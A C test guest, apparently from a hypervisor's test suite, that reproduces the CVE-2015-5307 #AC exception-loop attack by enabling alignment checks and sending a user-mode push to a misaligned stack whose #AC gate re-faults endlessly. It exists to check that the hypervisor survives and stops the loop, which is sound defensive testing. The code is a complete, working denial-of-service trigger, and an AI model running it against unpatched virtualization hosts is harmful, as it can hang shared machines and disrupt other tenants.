/*
 * A guest that attacks with an #AC loop (the class of CVE-2015-5307), in
 * 32-bit protected mode: with CR0.AM and EFLAGS.AC set, code at CPL 3 pushes
 * to a misaligned stack, and the #AC gate leads to a CPL-3 code segment, so
 * delivering the #AC pushes its frame to the same misaligned stack and
 * raises the next #AC. Unvirtualized, the CPU would loop inside that
 * delivery forever, never opening a window for an interrupt. Under the
 * hypervisor every round is an exit (it intercepts #AC), so the other VMs
 * run on, and this one, back at the same RIP round after round, is stopped
 * as an exception loop.
 */
#include "lib/guest.h"

#define USER_CODE 0x18 /* lib/entry32.S */
#define USER_DATA 0x20
#define VECTOR_AC 17

extern uint8_t idt[];

static uint8_t user_stack[256] __attribute__((aligned(16)));

/* CPL 3: the PUSH is the first misaligned access. */
__attribute__((naked)) static void user_code(void) {
  __asm__ volatile("push %eax\n 1: jmp 1b");
}

void guest_main(void) {
  uint32_t handler = (uint32_t)(uintptr_t)user_code;
  /* IDT[17]: a 32-bit interrupt gate into the user code segment (SDM Vol.
   * 3A 6.11): no privilege change, so no stack switch. */
  uint8_t* gate = idt + 8 * VECTOR_AC;
  uint16_t low = (uint16_t)handler, selector = USER_CODE | 3, flags = 0xee00, high = (uint16_t)(handler >> 16);
  __builtin_memcpy(gate, &low, 2);
  __builtin_memcpy(gate + 2, &selector, 2);
  __builtin_memcpy(gate + 4, &flags, 2);
  __builtin_memcpy(gate + 6, &high, 2);
  puts("acloop: CPL 3 on a misaligned stack, with alignment checks on\n");
  unsigned long cr0;
  __asm__ volatile("mov %%cr0, %0" : "=r"(cr0));
  __asm__ volatile("mov %0, %%cr0" ::"r"(cr0 | (1ul << 18))); /* AM */
  /* IRET to CPL 3: SS, ESP (3 bytes off alignment), EFLAGS with AC, CS, EIP. */
  __asm__ volatile(
    "push %0\n push %1\n push %2\n push %3\n push %4\n iret"
    ::"i"(USER_DATA | 3), "r"((uint32_t)(uintptr_t)&user_stack[sizeof user_stack - 3]), "i"((1 << 18) | 2),
      "i"(USER_CODE | 3), "r"(handler)
    : "memory");
}
